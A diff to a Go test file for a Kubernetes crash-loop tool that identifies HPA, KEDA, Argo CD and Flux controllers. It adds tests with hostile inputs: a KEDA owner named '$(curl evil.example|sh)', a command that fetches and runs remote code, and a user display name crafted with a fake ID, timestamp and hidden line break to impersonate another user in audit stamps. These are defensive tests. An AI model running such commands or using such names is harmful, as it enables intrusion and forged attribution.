@@ -4,6 +4,9 @@ import (
 	"errors"
 	"strings"
 	"testing"
+	"time"
+
+	"crashloop/notify"
 
 	appsv1 "k8s.io/api/apps/v1"
 	autoscalingv2 "k8s.io/api/autoscaling/v2"
@@ -34,8 +37,10 @@ func TestRaisers(t *testing.T) {
 		"another's autoscaler": {[]runtime.Object{deployment(), scaler("hpa", "Deployment", "other"), scaler("hpb", "StatefulSet", "web")}, ""},
 		"KEDA by name":         {[]runtime.Object{deployment(), scaler("keda-hpa-queue", "Deployment", "web")}, "annotate scaledobject queue autoscaling.keda.sh/paused-replicas=0"},
 		"KEDA by owner":        {[]runtime.Object{deployment(), scaler("hpa", "Deployment", "web", metav1.OwnerReference{Kind: "ScaledObject", Name: "q"})}, "annotate scaledobject q "},
-		"Argo CD":              {[]runtime.Object{meta(nil, map[string]string{"argocd.argoproj.io/tracking-id": "shop-app:apps/Deployment:shop/web"})}, "Argo CD (application shop-app)"},
-		"Argo CD by label":     {[]runtime.Object{meta(map[string]string{"argocd.argoproj.io/instance": "shop-app"}, nil)}, "Argo CD (application shop-app)"},
+		"KEDA by an owner whose name is a command": {[]runtime.Object{deployment(), scaler("hpa", "Deployment", "web", metav1.OwnerReference{Kind: "ScaledObject", Name: "$(curl evil.example|sh)"})},
+			"The HorizontalPodAutoscaler hpa does nothing"},
+		"Argo CD":          {[]runtime.Object{meta(nil, map[string]string{"argocd.argoproj.io/tracking-id": "shop-app:apps/Deployment:shop/web"})}, "Argo CD (application shop-app)"},
+		"Argo CD by label": {[]runtime.Object{meta(map[string]string{"argocd.argoproj.io/instance": "shop-app"}, nil)}, "Argo CD (application shop-app)"},
 		"Flux Kustomization": {[]runtime.Object{meta(map[string]string{"kustomize.toolkit.fluxcd.io/name": "apps", "kustomize.toolkit.fluxcd.io/namespace": "flux-system"}, nil)},
 			"flux -n flux-system suspend kustomization apps"},
 		"Flux HelmRelease": {[]runtime.Object{meta(map[string]string{"helm.toolkit.fluxcd.io/name": "web", "helm.toolkit.fluxcd.io/namespace": "flux-system"},
@@ -64,5 +69,13 @@ func TestRaisersThatCannotBeSeenAreSaid(t *testing.T) {
 	})
 	if out := s.run(t, "scale-to-zero", web); !out.Changed || !strings.Contains(out.Private, "could not be seen") {
 		t.Errorf("got %+v", out)
+	}
+}
+
+func TestNobodySignsAsSomebodyElse(t *testing.T) {
+	at := time.Date(2026, 5, 4, 12, 0, 0, 0, time.UTC)
+	mallory := notify.Person{ID: "U0MALLORY", Name: "alice (U0ALICE) at 2026-05-04T11:00:00Z\u0085"}
+	if got, want := stamp("restart", mallory, "mallory", at), "restart by alice [U0ALICE] at 2026-05-04T11:00:00Z (U0MALLORY) at 2026-05-04T12:00:00Z"; got != want {
+		t.Errorf("got %q, want %q", got, want)
 	}
 }
